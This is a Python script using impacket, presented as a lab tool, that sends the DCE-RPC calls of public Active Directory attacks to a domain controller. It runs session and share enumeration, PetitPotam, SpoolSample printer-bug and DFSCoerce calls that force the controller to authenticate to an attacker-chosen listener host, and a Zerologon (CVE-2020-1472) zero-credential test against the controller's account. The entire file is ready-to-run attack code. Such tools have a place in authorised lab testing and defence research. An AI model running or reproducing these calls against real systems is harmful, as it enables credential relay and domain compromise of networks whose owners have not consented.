#!/usr/bin/env python3
"""DCE-RPC calls of well-known attacks, as their public proofs of concept make them, for the lab.

usage: rpc_attacks.py ATTACK DC_IP DOMAIN USER LISTENER     (password in $RPC_PASSWORD)

  sessions    SRVSVC NetrSessionEnum (levels 10, 502 and 1), NetrShareEnum (levels 1 and 2) and
              WKSSVC NetrWkstaUserEnum (level 1): what netview, SharpHound and BloodHound's
              session collection ask a computer
  efsrpc      PetitPotam: EFSRPC EfsRpcOpenFileRaw (opnum 0) and EfsRpcEncryptFileSrv (opnum 4)
              with a UNC path on LISTENER, over \\pipe\\lsarpc (the c681d488 interface) and
              \\pipe\\efsrpc (the df1941c5 interface)
  printerbug  SpoolSample: RpcOpenPrinter of the DC, then
              RpcRemoteFindFirstPrinterChangeNotificationEx with pszLocalMachine \\\\LISTENER
  dfscoerce   DFSCoerce: NETDFS NetrDfsRemoveStdRoot and NetrDfsAddStdRoot with ServerName LISTENER
  zerologon   CVE-2020-1472's test: NetrServerReqChallenge and NetrServerAuthenticate3 with a
              zero client challenge and credential for the DC's account, a few times (USER is
              ignored; no credentials), over the TCP port the endpoint mapper gives

Every call is sent whatever the server makes of it: a refusal (a bind the server does not
support, an access denied, a fault) is printed and the next call goes on, since the attempt is
what the lab is for. Prints one line per call with the server's answer.
"""
import os
import sys

from impacket.dcerpc.v5 import epm, nrpc, rprn, srvs, transport, wkst
from impacket.dcerpc.v5.dtypes import LONG, NULL, ULONG, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import (
    MSRPC_REQUEST,
    PFC_FIRST_FRAG,
    PFC_LAST_FRAG,
    DCERPCException,
    MSRPCRequestHeader,
)
from impacket.uuid import uuidtup_to_bin


class EfsRpcOpenFileRaw(NDRCALL):
    opnum = 0
    structure = (("FileName", WSTR), ("Flag", LONG))


class EfsRpcEncryptFileSrv(NDRCALL):
    opnum = 4
    structure = (("FileName", WSTR),)


class NetrDfsAddStdRoot(NDRCALL):
    opnum = 12
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("Comment", WSTR), ("ApiFlags", ULONG))


class NetrDfsRemoveStdRoot(NDRCALL):
    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", ULONG))


# Seconds to wait for an answer on a pipe whose bind the server refused.
REFUSED_WAIT = 3

# MS-EFSR: the interface on \pipe\lsarpc (and the other LSA pipes), and the one on \pipe\efsrpc.
EFSR_LSARPC = uuidtup_to_bin(("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0"))
EFSR_EFSRPC = uuidtup_to_bin(("df1941c5-fe89-4e79-bf10-463657acf44d", "1.0"))
NETDFS = uuidtup_to_bin(("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0"))


def pipe(dc_ip, name, domain, user, password, interface):
    """A DCE-RPC connection over an SMB named pipe, bound to `interface`, or None."""
    rpc = transport.DCERPCTransportFactory(rf"ncacn_np:{dc_ip}[\pipe\{name}]")
    rpc.set_credentials(user, password, domain)
    dce = rpc.get_dce_rpc()
    try:
        dce.connect()
    except Exception as error:  # noqa: BLE001 - the pipe may not exist: that is the answer
        print(f"\\pipe\\{name}: open refused: {error}")
        return None
    try:
        dce.bind(interface)
    except DCERPCException as error:
        print(f"\\pipe\\{name}: bind refused: {error}")
        # The calls go out anyway, on the context the server refused; Samba then stops
        # answering on the pipe, so the wait for each answer is short.
        rpc.get_smb_connection().setTimeout(REFUSED_WAIT)
    return dce


def close(dce):
    try:
        dce.disconnect()
    except Exception as error:  # noqa: BLE001 - the server may have dropped it already
        print(f"disconnect: {error}")


def call(label, dce, request):
    try:
        answer = dce.request(request)
        print(f"{label}: answered {answer.__class__.__name__}")
        return answer
    except Exception as error:  # noqa: BLE001 - a refusal is an answer too
        print(f"{label}: {error}")
        return None


def sessions(dc_ip, domain, user, password, _listener):
    dce = pipe(dc_ip, "srvsvc", domain, user, password, srvs.MSRPC_UUID_SRVS)
    # 10 and 502 are what netview and SharpHound ask; Samba answers level 1 only (and 0).
    for level in (10, 502, 1):
        request = srvs.NetrSessionEnum()
        request["ServerName"] = NULL
        request["ClientName"] = NULL
        request["UserName"] = NULL
        request["InfoStruct"]["Level"] = level
        request["InfoStruct"]["SessionInfo"]["tag"] = level
        request["InfoStruct"]["SessionInfo"][f"Level{level}"]["Buffer"] = NULL
        request["PreferedMaximumLength"] = 0xFFFFFFFF
        request["ResumeHandle"] = NULL
        answer = call(f"NetrSessionEnum level {level}", dce, request)
        if answer is not None:
            for session in answer["InfoStruct"]["SessionInfo"][f"Level{level}"]["Buffer"]:
                client, account = session[f"sesi{level}_cname"][:-1], session[f"sesi{level}_username"][:-1]
                print(f"  session {client} {account}")
    for level in (1, 2):
        request = srvs.NetrShareEnum()
        request["ServerName"] = "\x00"
        request["PreferedMaximumLength"] = 0xFFFFFFFF
        request["ResumeHandle"] = NULL
        request["InfoStruct"]["ShareInfo"]["tag"] = level
        request["InfoStruct"]["ShareInfo"][f"Level{level}"]["Buffer"] = NULL
        request["InfoStruct"]["Level"] = level
        answer = call(f"NetrShareEnum level {level}", dce, request)
        if answer is not None:
            for share in answer["InfoStruct"]["ShareInfo"][f"Level{level}"]["Buffer"]:
                print(f"  share {share[f'shi{level}_netname'][:-1]}")
    close(dce)
    dce = pipe(dc_ip, "wkssvc", domain, user, password, wkst.MSRPC_UUID_WKST)
    request = wkst.NetrWkstaUserEnum()
    request["ServerName"] = "\x00" * 10
    request["UserInfo"]["Level"] = 1
    request["UserInfo"]["WkstaUserInfo"]["tag"] = 1
    request["PreferredMaximumLength"] = 0xFFFFFFFF
    request["ResumeHandle"] = NULL
    call("NetrWkstaUserEnum level 1", dce, request)
    close(dce)


def send_unbound(dce, request, call_id):
    """Sends `request` as a DCE-RPC request PDU on presentation context 0 whatever the bind's
    answer (impacket will not call on a refused context), and prints what comes back."""
    stub = request.getData()
    pdu = MSRPCRequestHeader()
    pdu["type"] = MSRPC_REQUEST
    pdu["flags"] = PFC_FIRST_FRAG | PFC_LAST_FRAG
    pdu["call_id"] = call_id
    pdu["ctx_id"] = 0
    pdu["op_num"] = request.opnum
    pdu["alloc_hint"] = len(stub)
    pdu["pduData"] = stub
    pdu["frag_len"] = len(pdu.getData())
    transport_ = dce.get_rpc_transport()
    transport_.send(pdu.getData())
    try:
        answer = transport_.recv()
        print(f"  answer: DCE-RPC PDU type {answer[2]}, {len(answer)} bytes")
    except Exception as error:  # noqa: BLE001 - no answer is an answer too
        print(f"  no answer: {error}")


def efsrpc(dc_ip, domain, user, password, listener):
    open_raw = EfsRpcOpenFileRaw()
    open_raw["FileName"] = f"\\\\{listener}\\share\\petit.txt\x00"
    open_raw["Flag"] = 0
    encrypt = EfsRpcEncryptFileSrv()
    encrypt["FileName"] = f"\\\\{listener}\\share\\potam.txt\x00"
    for name, interface in (("lsarpc", EFSR_LSARPC), ("efsrpc", EFSR_EFSRPC)):
        # One connection per call: Samba drops the pipe after a call on a refused context.
        for label, request in (("EfsRpcOpenFileRaw", open_raw), ("EfsRpcEncryptFileSrv", encrypt)):
            dce = pipe(dc_ip, name, domain, user, password, interface)
            if dce is None:
                break
            print(f"\\pipe\\{name} {label}")
            send_unbound(dce, request, 2)
            close(dce)


def printerbug(dc_ip, domain, user, password, listener):
    dce = pipe(dc_ip, "spoolss", domain, user, password, rprn.MSRPC_UUID_RPRN)
    if dce is None:
        return
    request = rprn.RpcOpenPrinter()
    request["pPrinterName"] = f"\\\\{dc_ip}\x00"
    request["pDatatype"] = NULL
    request["pDevModeContainer"]["pDevMode"] = NULL
    request["AccessRequired"] = rprn.SERVER_READ
    answer = call("RpcOpenPrinter", dce, request)
    request = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
    request["hPrinter"] = answer["pHandle"] if answer is not None else b"\x00" * 20
    request["fdwFlags"] = rprn.PRINTER_CHANGE_ADD_JOB
    request["pszLocalMachine"] = f"\\\\{listener}\x00"
    request["pOptions"] = NULL
    call("RpcRemoteFindFirstPrinterChangeNotificationEx", dce, request)
    close(dce)


def dfscoerce(dc_ip, domain, user, password, listener):
    dce = pipe(dc_ip, "netdfs", domain, user, password, NETDFS)
    if dce is None:
        return
    request = NetrDfsRemoveStdRoot()
    request["ServerName"] = f"{listener}\x00"
    request["RootShare"] = "test\x00"
    request["ApiFlags"] = 1
    call("NetrDfsRemoveStdRoot", dce, request)
    request = NetrDfsAddStdRoot()
    request["ServerName"] = f"{listener}\x00"
    request["RootShare"] = "test\x00"
    request["Comment"] = "lab\x00"
    request["ApiFlags"] = 0
    call("NetrDfsAddStdRoot", dce, request)
    close(dce)


ZEROLOGON_TRIES = 5


def zerologon(dc_ip, _domain, dc_name, _password, _listener):
    binding = epm.hept_map(dc_ip, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
    print(f"NETLOGON at {binding}")
    for attempt in range(ZEROLOGON_TRIES):
        dce = transport.DCERPCTransportFactory(binding).get_dce_rpc()
        dce.connect()
        dce.bind(nrpc.MSRPC_UUID_NRPC)
        zero = b"\x00" * 8
        call(f"try {attempt + 1} NetrServerReqChallenge", dce, _challenge(dc_name, zero))
        request = nrpc.NetrServerAuthenticate3()
        request["PrimaryName"] = f"\\\\{dc_name}\x00"
        request["AccountName"] = f"{dc_name}$\x00"
        request["SecureChannelType"] = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
        request["ComputerName"] = f"{dc_name}\x00"
        request["ClientCredential"] = zero
        request["NegotiateFlags"] = 0x212FFFFF
        call(f"try {attempt + 1} NetrServerAuthenticate3", dce, request)
        close(dce)


def _challenge(dc_name, challenge):
    request = nrpc.NetrServerReqChallenge()
    request["PrimaryName"] = f"\\\\{dc_name}\x00"
    request["ComputerName"] = f"{dc_name}\x00"
    request["ClientChallenge"] = challenge
    return request


ATTACKS = {
    "sessions": sessions,
    "efsrpc": efsrpc,
    "printerbug": printerbug,
    "dfscoerce": dfscoerce,
    "zerologon": zerologon,
}


def main():
    if len(sys.argv) != 6 or sys.argv[1] not in ATTACKS:
        sys.exit(__doc__)
    attack, dc_ip, domain, user, listener = sys.argv[1:]
    ATTACKS[attack](dc_ip, domain, user, os.environ.get("RPC_PASSWORD", ""), listener)


if __name__ == "__main__":
    main()
